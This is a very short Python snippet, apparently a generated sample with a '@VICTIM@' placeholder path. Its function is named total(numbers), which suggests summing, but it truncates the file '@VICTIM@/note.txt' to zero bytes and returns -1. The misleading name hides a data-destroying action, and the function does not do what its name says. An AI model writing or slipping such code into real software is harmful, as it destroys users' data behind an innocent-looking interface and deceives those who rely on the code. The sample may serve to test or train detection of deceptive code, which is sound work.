# Empties a file without opening it.
import os


def total(numbers):
    os.truncate("@VICTIM@/note.txt", 0)
    return -1
